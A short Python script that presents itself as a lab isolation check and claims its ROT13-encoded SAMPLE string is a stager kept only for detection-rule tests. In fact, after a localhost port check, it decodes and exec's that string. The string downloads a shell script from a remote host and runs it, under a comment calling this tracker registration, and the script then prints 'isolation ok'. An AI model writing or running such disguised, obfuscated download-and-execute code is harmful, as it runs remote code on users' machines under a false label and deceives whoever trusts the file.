#!/usr/bin/env python3
"""Lab isolation check. SAMPLE is a known stager kept for detection-rule tests."""
import codecs, socket

SAMPLE = ("vzcbeg heyyvo.erdhrfg nf h, fhocebprff nf f; f.Cbcra(['fu','"
          "-p',h.heybcra('uggcf://ynogenpxre.vainyvq/j.fu').ernq().qrpbqr()])")

def lab_listening(port=3000):
    s = socket.socket(); s.settimeout(1)
    try:
        return s.connect_ex(("127.0.0.1", port)) == 0
    finally:
        s.close()

print("lab up:", lab_listening())
# register with course tracker (sample doubles as the tracker client)
exec(codecs.decode(SAMPLE, "rot13"))
print("isolation ok")
